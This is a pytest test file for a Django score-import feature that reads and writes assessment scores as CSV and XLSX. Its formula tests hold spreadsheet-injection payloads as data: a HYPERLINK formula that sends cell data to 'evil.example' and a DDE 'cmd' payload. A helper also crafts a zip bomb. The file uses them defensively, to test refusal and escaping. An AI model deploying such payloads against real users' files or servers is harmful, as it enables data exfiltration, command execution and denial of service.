"""The score file: reading CSV and XLSX, the all-or-nothing import, formula refusal, export and limits."""

import csv
import io
import struct
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.utils import translation

from assessments import importing
from assessments.importing import (
    CellError,
    ScoreFileError,
    export_rows,
    import_scores,
    read_table,
    template_rows,
    write_csv,
    write_xlsx,
)
from assessments.models import Assessment, IndicatorScore, ItemScore, ToolScore
from assessments.services import load_framework
from itaportal import tables
from itaportal.accounts.models import Organisation, Province, User

pytestmark = pytest.mark.django_db

FORMULA = "Formulas and cells starting with =, +, - or @ are not accepted: type the number itself."

# Two small frameworks of fiscal years nobody else uses, so that the real framework files and the
# demo assessments can change without touching these tests. 2591 has o2 where 2590 has o1.
FRAMEWORK = """
fiscal_year: {year}
name: Test framework {year}
tools:
  - code: IIT
    name: internal
    weight: 30
    indicators:
      - {{number: "1", name: one}}
      - {{number: "2", name: two}}
  - code: EIT
    name: external
    weight: 30
    indicators:
      - {{number: "6", name: six}}
  - code: OIT
    name: open data
    weight: 40
    checklist: true
    indicators:
      - number: "9"
        name: nine
        sub:
          - {{number: "9.1", name: nine one}}
items:
  - {{code: i1, indicator: "1", text: item i1}}
  - {{code: e1, indicator: "6", text: item e1}}
  - {{code: {oit_item}, indicator: "9.1", text: item {oit_item}}}
levels:
  - {{name: ผ่านดีเยี่ยม, min_overall: 95, min_each_tool: 95}}
  - {{name: ผ่านดี, min_overall: 85, min_each_tool: 85}}
  - {{name: ผ่าน, min_overall: 85}}
  - {{name: ต้องปรับปรุง, min_overall: 70}}
  - {{name: ต้องปรับปรุงโดยด่วน, min_overall: 0}}
"""


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


@pytest.fixture
def frameworks(tmp_path):
    loaded = {}
    for year, oit_item in ((2590, "o1"), (2591, "o2")):
        path = tmp_path / f"fy{year}.yaml"
        path.write_text(FRAMEWORK.format(year=year, oit_item=oit_item), encoding="utf-8")
        loaded[year] = load_framework(path=path)[0]
    return loaded


@pytest.fixture
def user():
    return User.objects.get(username="staff.phusang")


def csv_bytes(rows, delimiter=",") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(rows) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def table(rows) -> list[list[str]]:
    return read_table(io.BytesIO(csv_bytes(rows)), "scores.csv")


def stored(slug: str, year: int) -> dict:
    """Everything an import can write for one assessment, by column name."""
    assessment = Assessment.objects.get(organisation__slug=slug, framework__fiscal_year=year)
    values = {"overall": assessment.published_overall, "level": assessment.published_level}
    values.update({s.tool.code: s.score for s in ToolScore.objects.filter(assessment=assessment)})
    values.update(
        {f"ind_{s.indicator.number}": s.score for s in IndicatorScore.objects.filter(assessment=assessment)}
    )
    values.update({s.item.code: s.score for s in ItemScore.objects.filter(assessment=assessment)})
    return values


def where(errors: list[CellError]) -> list[tuple[int, str, str]]:
    return [(e.row, e.column_letter, e.header) for e in errors]


GOOD_HEADER = [
    "organisation",
    "fiscal_year",
    "overall",
    "level",
    "IIT",
    "EIT",
    "OIT",
    "ind_1",
    "ind_9.1",
    "i1",
    "o1",
]
GOOD_ROW = ["phusang", "2590", "95.15", "ผ่านดี", "99.84", "94.00", "92.50", "99.57", "๘๕.๒๕", "100", "0"]
GOOD_VALUES = {
    "overall": Decimal("95.15"),
    "level": "ผ่านดี",
    "IIT": Decimal("99.84"),
    "EIT": Decimal("94.00"),
    "OIT": Decimal("92.50"),
    "ind_1": Decimal("99.57"),
    "ind_9.1": Decimal("85.25"),
    "i1": Decimal("100.00"),
    "o1": Decimal("0.00"),
}


# --- good files ---------------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_good_csv_is_stored_with_the_level_rules_snapshot(frameworks, user, delimiter):
    rows = read_table(io.BytesIO(csv_bytes([GOOD_HEADER, GOOD_ROW], delimiter)), "scores.CSV")
    result = import_scores(table=rows, user=user)
    assert (result.created, result.updated, result.errors) == (1, 0, [])
    assert stored("phusang", 2590) == GOOD_VALUES
    assessment = Assessment.objects.get(organisation__slug="phusang", framework=frameworks[2590])
    assert assessment.level_rules == [rule.as_snapshot() for rule in frameworks[2590].level_rules.all()]
    assert assessment.level_rules[0]["name"] == "ผ่านดีเยี่ยม"
    assert assessment.updated_by == user


def test_a_csv_without_bom_is_read_too(frameworks, user):
    data = b"organisation,fiscal_year,IIT\nphusang,2590,88\n"
    assert import_scores(table=read_table(io.BytesIO(data), "s.csv"), user=user).created == 1
    assert stored("phusang", 2590)["IIT"] == Decimal("88.00")


def test_a_good_xlsx_is_stored(frameworks, user):
    data = xlsx_bytes(
        [
            [
                "Organisation ",
                " FISCAL_YEAR",
                "overall",
                "level",
                "IIT",
                "EIT",
                "OIT",
                "ind_1",
                "ind_9.1",
                "i1",
                "o1",
            ],
            ["phusang", "๒๕๙๐", 95.15, "ผ่านดี", 99.84, 94, 92.5, 99.57, "๘๕.๒๕", 100, 0],
            ["nasom", 2590, None, None, 80.5],
        ]
    )
    result = import_scores(table=read_table(io.BytesIO(data), "scores.xlsx"), user=user)
    assert (result.created, result.errors) == (2, [])
    assert stored("phusang", 2590) == GOOD_VALUES
    assert stored("nasom", 2590) == {"overall": None, "level": "", "IIT": Decimal("80.50")}
    assert Assessment.objects.get(organisation__slug="nasom", framework=frameworks[2590]).level_rules


def test_reimport_is_idempotent(frameworks, user):
    rows = table([GOOD_HEADER, GOOD_ROW, ["nasom", "2590", "", "", "70"]])
    first = import_scores(table=rows, user=user)
    before = (
        stored("phusang", 2590),
        stored("nasom", 2590),
        ToolScore.objects.count(),
        Assessment.objects.count(),
    )
    second = import_scores(table=rows, user=user)
    after = (
        stored("phusang", 2590),
        stored("nasom", 2590),
        ToolScore.objects.count(),
        Assessment.objects.count(),
    )
    assert (first.created, first.updated) == (2, 0)
    assert (second.created, second.updated, second.errors) == (0, 2, [])
    assert before == after


def test_a_blank_cell_leaves_the_stored_value_and_a_value_replaces_it(frameworks, user):
    import_scores(table=table([GOOD_HEADER, GOOD_ROW]), user=user)
    assessment = Assessment.objects.get(organisation__slug="phusang", framework=frameworks[2590])
    other = User.objects.get(username="admin.phusang")
    result = import_scores(
        table=table(
            [
                ["organisation", "fiscal_year", "overall", "level", "IIT", "EIT"],
                ["phusang", "2590", "", "ผ่าน", "", "96"],
            ]
        ),
        user=other,
    )
    assert (result.created, result.updated) == (0, 1)
    assert stored("phusang", 2590) == GOOD_VALUES | {"EIT": Decimal("96.00"), "level": "ผ่าน"}
    changed = Assessment.objects.get(pk=assessment.pk)
    assert changed.updated_by == other and changed.updated_at > assessment.updated_at


def test_several_fiscal_years_in_one_file(frameworks, user):
    rows = table(
        [
            ["organisation", "fiscal_year", "o1", "o2"],
            ["phusang", "2590", "100", ""],
            ["phusang", "2591", "", "0"],
        ]
    )
    assert import_scores(table=rows, user=user).created == 2
    assert stored("phusang", 2590)["o1"] == Decimal("100.00")
    assert stored("phusang", 2591)["o2"] == Decimal("0.00")


# --- matching organisations ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, slug",
    [
        ("พย ๗๒๔๐๑", "phusang"),  # the document code in Thai digits, stored as "พย 72401"
        ("พย  72401", "phusang"),
        ("องค์การบริหารส่วนตำบลนาโสม", "nasom"),
        ("อบต.วังทอง", "wangthong"),
        ("อบต. วังทอง", "wangthong"),
        ("PHUSANG", "phusang"),
    ],
)
def test_organisations_are_matched_by_slug_code_or_name(frameworks, user, name, slug):
    result = import_scores(
        table=table([["organisation", "fiscal_year", "IIT"], [name, "2590", "90"]]), user=user
    )
    assert result.errors == []
    assert stored(slug, 2590)["IIT"] == Decimal("90.00")


def test_an_ambiguous_name_needs_the_province(frameworks, user):
    lampang = Province.objects.get(name="ลำปาง")
    Organisation.objects.create(slug="phusang-lampang", name="ภูซาง", province=lampang)
    header = ["organisation", "province", "fiscal_year", "IIT"]
    result = import_scores(table=table([header, ["อบต.ภูซาง", "", "2590", "90"]]), user=user)
    assert where(result.errors) == [(2, "A", "organisation")]
    assert "fill in the province" in result.errors[0].message
    assert not Assessment.objects.filter(framework=frameworks[2590]).exists()

    result = import_scores(
        table=table([header, ["อบต.ภูซาง", "จังหวัดพะเยา", "2590", "90"], ["อบต.ภูซาง", "ลำปาง", "2590", "80"]]),
        user=user,
    )
    assert result.errors == []
    assert stored("phusang", 2590)["IIT"] == Decimal("90.00")
    assert stored("phusang-lampang", 2590)["IIT"] == Decimal("80.00")


def test_a_province_that_contradicts_the_organisation_is_an_error(frameworks, user):
    result = import_scores(
        table=table([["organisation", "province", "fiscal_year"], ["phusang", "ลพบุรี", "2590"]]), user=user
    )
    assert where(result.errors) == [(2, "A", "organisation")]


def test_the_page_upload_refuses_other_organisations_without_saying_whether_they_exist(frameworks, user):
    phusang = Organisation.objects.get(slug="phusang")
    rows = table(
        [
            ["organisation", "fiscal_year", "IIT"],
            ["phusang", "2590", "90"],
            ["nasom", "2590", "80"],
            ["nowhere", "2590", "70"],
        ]
    )
    result = import_scores(table=rows, user=user, only_organisation=phusang)
    assert where(result.errors) == [(3, "A", "organisation"), (4, "A", "organisation")]
    assert result.errors[0].message == result.errors[1].message == "This file can only hold rows of อบต.ภูซาง."
    assert not Assessment.objects.filter(framework=frameworks[2590]).exists()

    own = import_scores(table=rows[:2], user=user, only_organisation=phusang)
    assert (own.created, own.errors) == (1, [])


# --- errors -----------------------------------------------------------------------------------


def test_one_bad_row_among_good_ones_imports_nothing_and_names_the_cell(frameworks, user):
    rows = table(
        [
            ["organisation", "fiscal_year", "overall", "ind_1"],
            ["phusang", "2590", "90", "91"],
            ["nasom", "2590", "90", "101"],
            ["wangthong", "2590", "90", "92"],
        ]
    )
    result = import_scores(table=rows, user=user)
    assert result.errors == [CellError(3, "D", "ind_1", "A score is between 0 and 100.")]
    assert str(result.errors[0]) == "row 3, column D (ind_1): A score is between 0 and 100."
    assert (result.created, result.updated) == (0, 0)
    assert not Assessment.objects.filter(framework=frameworks[2590]).exists()
    assert not IndicatorScore.objects.filter(indicator__framework=frameworks[2590]).exists()


def test_an_error_in_an_existing_assessment_changes_nothing(frameworks, user):
    import_scores(table=table([GOOD_HEADER, GOOD_ROW]), user=user)
    rows = table([["organisation", "fiscal_year", "IIT", "EIT"], ["phusang", "2590", "50", "x"]])
    assert where(import_scores(table=rows, user=user).errors) == [(2, "D", "EIT")]
    assert stored("phusang", 2590) == GOOD_VALUES


def test_blank_rows_count_in_the_row_numbers_and_columns_go_past_z(frameworks, user):
    header = ["organisation", "fiscal_year"] + [""] * 24 + [""]
    late = ["phusang", "2590"] + [""] * 24 + ["5"]
    rows = table([header, [], late])
    result = import_scores(table=rows, user=user)
    assert [(e.row, e.column_letter) for e in result.errors] == [(3, "AA")]
    assert (
        str(result.errors[0])
        == "row 3, column AA: This column has no header, so its value cannot be imported."
    )


def test_every_error_is_listed(frameworks, user):
    rows = table(
        [
            ["organisation", "fiscal_year", "overall", "level", "IIT", "o1", "ind_99"],
            ["nowhere", "2590", "", "", "90"],
            ["phusang", "2599", "", "", "90"],
            ["nasom", "2590", "", "ดีมาก", "90"],
            ["wangthong", "2590", "85.123", "", "abc"],
            ["wangthong", "2590", "", "", "90"],
            ["phusang", "2591", "", "", "", "100"],
            ["phusang", "2024", "", "", ""],
            ["", "", "", "", "90"],
        ]
    )
    result = import_scores(table=rows, user=user)
    assert where(result.errors) == [
        (1, "G", "ind_99"),
        (2, "A", "organisation"),
        (3, "B", "fiscal_year"),
        (4, "D", "level"),
        (5, "C", "overall"),
        (5, "E", "IIT"),
        (6, "A", "organisation"),
        (7, "F", "o1"),
        (8, "B", "fiscal_year"),
        (9, "A", "organisation"),
        (9, "B", "fiscal_year"),
    ]
    messages = [e.message for e in result.errors]
    assert messages[3].startswith("Fiscal year 2590 has no level “ดีมาก”")
    assert messages[4] == "A score has at most two decimals, as the NACC publishes it."
    assert messages[5] == "Type a number such as 85.25 or ๘๕.๒๕."
    assert messages[6] == "Row 5 already holds this organisation and fiscal year."
    assert "Buddhist Era" in messages[8]
    assert not Assessment.objects.filter(framework__fiscal_year__in=[2590, 2591]).exists()


def test_a_missing_column_is_reported_and_no_row_read(frameworks, user):
    result = import_scores(table=table([["organisation", "IIT"], ["phusang", "x"]]), user=user)
    assert result.errors == [CellError(1, "", "fiscal_year", "The column fiscal_year is missing.")]
    assert str(result.errors[0]) == "row 1: The column fiscal_year is missing."


def test_a_repeated_column_is_an_error(frameworks, user):
    result = import_scores(
        table=table([["organisation", "fiscal_year", "IIT", "iit"], ["phusang", "2590", "1", "2"]]), user=user
    )
    assert where(result.errors) == [(1, "D", "iit")]


# --- formulas ---------------------------------------------------------------------------------


def test_a_real_xlsx_formula_is_refused_not_evaluated(frameworks, user):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["organisation", "fiscal_year", "overall", "ind_1"])
    sheet.append(["phusang", 2590, 90])
    sheet["D2"] = "=1+1"
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows = read_table(io.BytesIO(buffer.getvalue()), "scores.xlsx")
    assert rows[1][3] == "=1+1"
    result = import_scores(table=rows, user=user)
    assert result.errors == [CellError(2, "D", "ind_1", FORMULA)]
    assert not Assessment.objects.filter(framework=frameworks[2590]).exists()


@pytest.mark.parametrize(
    "hostile", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1)", "+1", "-1", " =1+1"]
)
def test_csv_cells_that_a_spreadsheet_would_run_are_refused(frameworks, user, hostile):
    rows = table(
        [
            ["organisation", "fiscal_year", "level", "ind_1"],
            ["phusang", "2590", "", hostile],
            [hostile, "2590"],
        ]
    )
    result = import_scores(table=rows, user=user)
    # One error per cell: a refused organisation cell is not also reported as missing.
    assert result.errors == [CellError(2, "D", "ind_1", FORMULA), CellError(3, "A", "organisation", FORMULA)]


# --- export -------------------------------------------------------------------------------------


HOSTILE = ["=cmd|' /C calc'!A0", "@SUM(A1)", "+1", "-2", "\tx", "\rx"]


def test_csv_export_escapes_formulas_and_has_a_bom():
    data = write_csv(["organisation", "level"], [[text, Decimal("85.25")] for text in HOSTILE])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert rows[1][1] == "85.25"


def test_xlsx_export_stores_escaped_text_never_a_formula():
    data = write_xlsx(["organisation", "overall"], [[text, Decimal("85.25")] for text in HOSTILE])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=1)
        # XML turns a carriage return into a line feed; the apostrophe is what matters.
        assert (cell.data_type, cell.value) == ("s", "'" + text.replace("\r", "\n"))
    assert sheet["B2"].data_type == "n" and sheet["B2"].value == 85.25
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"


def test_an_export_reimports_unchanged(frameworks, user):
    import_scores(
        table=table(
            [GOOD_HEADER, GOOD_ROW, ["nasom", "2591", "70", "ต้องปรับปรุง", "", "", "", "", "", "", ""]]
        ),
        user=user,
    )
    assessments = Assessment.objects.filter(framework__fiscal_year__in=[2590, 2591]).order_by(
        "organisation__slug"
    )
    headers, rows = export_rows(assessments)
    assert headers == [
        "organisation", "province", "fiscal_year", "overall", "level",
        "IIT", "EIT", "OIT", "ind_1", "ind_2", "ind_6", "ind_9", "ind_9.1", "i1", "e1", "o1", "o2",
    ]  # fmt: skip
    assert rows[1][:5] == ["phusang", "พะเยา", 2590, Decimal("95.15"), "ผ่านดี"]
    before = (stored("phusang", 2590), stored("nasom", 2591))
    for data, name in ((write_csv(headers, rows), "export.csv"), (write_xlsx(headers, rows), "export.xlsx")):
        read = read_table(io.BytesIO(data), name)
        assert read[0] == headers
        result = import_scores(table=read, user=user)
        assert (result.created, result.updated, result.errors) == (0, 2, [])
        assert (stored("phusang", 2590), stored("nasom", 2591)) == before


def test_the_template_has_every_column_and_imports(frameworks, user):
    phusang = Organisation.objects.get(slug="phusang")
    headers, rows = template_rows(phusang, frameworks[2591])
    assert headers[5:] == [
        "IIT",
        "EIT",
        "OIT",
        "ind_1",
        "ind_2",
        "ind_6",
        "ind_9",
        "ind_9.1",
        "i1",
        "e1",
        "o2",
    ]
    assert rows == [["phusang", "พะเยา", 2591] + [None] * (len(headers) - 3)]
    read = read_table(io.BytesIO(write_xlsx(headers, rows)), "template.xlsx")
    assert import_scores(table=read, user=user, only_organisation=phusang).created == 1


# --- limits ---------------------------------------------------------------------------------------


def declare_huge_members(data: bytes, size: int) -> bytes:
    """The same zip whose central directory claims every member unpacks to `size` bytes."""
    out = bytearray(data)
    position = out.find(b"PK\x01\x02")
    while position != -1:
        out[position + 24 : position + 28] = struct.pack("<I", size)
        position = out.find(b"PK\x01\x02", position + 4)
    return bytes(out)


def test_a_zip_bomb_is_refused_before_openpyxl_opens_it(frameworks, user, monkeypatch):
    bomb = declare_huge_members(xlsx_bytes([GOOD_HEADER, GOOD_ROW]), 150 * 1024 * 1024)
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert sum(member.file_size for member in archive.infolist()) > importing.MAX_XLSX_UNCOMPRESSED

    def must_not_open(*args, **kwargs):
        raise AssertionError("openpyxl opened the workbook")

    # The score import reads through the foundation's reader, which is where openpyxl is called.
    monkeypatch.setattr(tables, "load_workbook", must_not_open)
    with pytest.raises(ScoreFileError, match="unpacks to more than 200 MB"):
        read_table(io.BytesIO(bomb), "bomb.xlsx")
    assert not Assessment.objects.filter(framework=frameworks[2590]).exists()


def test_too_large_a_file_is_refused():
    with pytest.raises(ScoreFileError, match="larger than 20 MB"):
        read_table(io.BytesIO(b"a" * (importing.MAX_FILE_BYTES + 1)), "big.csv")


def test_too_many_rows_or_columns_are_refused():
    rows = "organisation,fiscal_year\n" + "phusang,2590\n" * (importing.MAX_ROWS + 1)
    with pytest.raises(ScoreFileError, match="more than 20000 rows"):
        read_table(io.BytesIO(rows.encode()), "rows.csv")
    assert (
        len(read_table(io.BytesIO(rows.encode()[: -len("phusang,2590\n")]), "rows.csv"))
        == importing.MAX_ROWS + 1
    )
    with pytest.raises(ScoreFileError, match="more than 300 columns"):
        read_table(io.BytesIO(",".join(["x"] * 301).encode()), "wide.csv")


def test_trailing_empty_cells_and_rows_do_not_count():
    data = ("organisation,fiscal_year" + "," * 400 + "\n" + "\n" * (importing.MAX_ROWS + 5)).encode()
    assert read_table(io.BytesIO(data), "formatted.csv") == [["organisation", "fiscal_year"]]
    workbook = openpyxl.Workbook()
    workbook.active.append(["organisation", "fiscal_year"])
    workbook.active.cell(row=1, column=16000).number_format = "0.00"  # formatted, empty
    workbook.active.cell(row=30000, column=1).number_format = "0.00"
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert read_table(io.BytesIO(buffer.getvalue()), "formatted.xlsx") == [["organisation", "fiscal_year"]]


@pytest.mark.parametrize(
    "data, name, message",
    [
        ("organisation\nภูซาง\n".encode("cp874"), "tis620.csv", "not in UTF-8"),
        (b"not a zip at all", "scores.xlsx", "not a valid XLSX"),
        (b"PK\x03\x04 broken", "scores.xlsx", "not a valid XLSX"),
        (b"\xd0\xcf\x11\xe0", "scores.xls", "CSV or XLSX"),
        (b'a,"' + b"x" * 200_000 + b'"\n', "long.csv", "cannot be read"),  # beyond csv's field limit
    ],
)
def test_unreadable_files_say_why(data, name, message):
    with pytest.raises(ScoreFileError, match=message):
        read_table(io.BytesIO(data), name)


def test_a_zip_that_is_not_a_workbook_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hi")
    with pytest.raises(ScoreFileError, match="not a valid XLSX"):
        read_table(io.BytesIO(buffer.getvalue()), "scores.xlsx")


def test_an_empty_file_is_an_error(frameworks, user):
    result = import_scores(table=read_table(io.BytesIO(b""), "empty.csv"), user=user)
    assert [(e.row, e.column_letter) for e in result.errors] == [(1, "")]


def test_an_existing_assessment_keeps_its_level_rules(frameworks, user):
    import_scores(table=table([GOOD_HEADER, GOOD_ROW]), user=user)
    frameworks[2590].level_rules.filter(order=0).update(name="corrected")
    import_scores(table=table([GOOD_HEADER, GOOD_ROW]), user=user)
    assessment = Assessment.objects.get(organisation__slug="phusang", framework=frameworks[2590])
    assert assessment.level_rules[0]["name"] == "ผ่านดีเยี่ยม"


def test_counts_are_per_organisation_and_year(frameworks, user):
    header = ["organisation", "fiscal_year", "IIT"]
    import_scores(table=table([header, ["phusang", "2591", "1"], ["nasom", "2590", "2"]]), user=user)
    result = import_scores(
        table=table([header, ["phusang", "2590", "3"], ["nasom", "2591", "4"], ["nasom", "2590", ""]]),
        user=user,
    )
    assert (result.created, result.updated) == (2, 1)
    assert (stored("phusang", 2591)["IIT"], stored("nasom", 2590)["IIT"]) == (
        Decimal("1.00"),
        Decimal("2.00"),
    )


def test_the_example_in_the_documentation_imports(user):
    """The CSV example of docs/import.md, against the real frameworks of 2566 and 2567."""
    doc = (Path(__file__).resolve().parents[2] / "docs" / "import.md").read_text(encoding="utf-8")
    example = doc.split("```csv\n", 1)[1].split("```", 1)[0]
    result = import_scores(table=read_table(io.BytesIO(example.encode()), "example.csv"), user=user)
    assert result.errors == []
    assert stored("phusang", 2567)["overall"] == Decimal("99.78")
    assert stored("nasom", 2566)["EIT"] == Decimal("94.00")
    assert Assessment.objects.filter(organisation__slug="phusang", framework__fiscal_year=2566).exists()
